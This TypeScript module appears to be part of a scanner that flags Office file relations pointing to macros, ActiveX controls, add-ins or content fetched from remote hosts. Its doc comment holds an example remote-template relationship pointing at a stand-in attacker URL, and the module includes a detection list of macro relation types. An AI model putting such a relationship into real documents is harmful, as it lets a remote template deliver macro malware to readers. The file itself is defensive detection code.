import { isFar } from './far-target';
import { readXml } from './xml';

/** What a relation would do without a click: start something, or fetch from another computer. */
export type ActiveRelation = 'active' | 'remote';

/** Relations to what has no place in a report, wherever it lies: macros, controls, add-ins, pages put in as they are (altChunk). */
const NEVER =
  /\/(aFChunk|vbaProject\w*|wordVbaData|xlMacrosheet|xlIntlMacrosheet|activeXControl\w*|control|webextension\w*)$/i;
/** Links a person clicks, and other workbooks, which Excel asks about first. Everything else is fetched as soon as the file is opened. */
const ON_REQUEST = /\/(hyperlink|externalLink\w*|xlPathMissing|xlStartup|xlAlternateStartup|xlLibrary)$/i;

/**
 * Whether a part of relations names something that would run, or that Office would fetch from another computer by itself.
 * @param xml a part such as `word/_rels/settings.xml.rels`
 * @throws Error when it is not well-formed
 * @example activeRelation(Buffer.from('<Relationship Type="…/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>')) // 'remote'
 */
export function activeRelation(xml: Buffer): ActiveRelation | null {
  const found = new Set<ActiveRelation>();
  readXml(xml, {
    element(name, attributes) {
      if (name !== 'Relationship') return;
      const type = (attributes.get('Type') ?? '').trim();
      if (NEVER.test(type)) found.add('active');
      // `TargetMode` is not trusted: a part of the file itself has no address of another computer.
      else if (!ON_REQUEST.test(type) && isFar(attributes.get('Target') ?? '')) found.add('remote');
    },
  });
  return found.has('active') ? 'active' : found.has('remote') ? 'remote' : null;
}
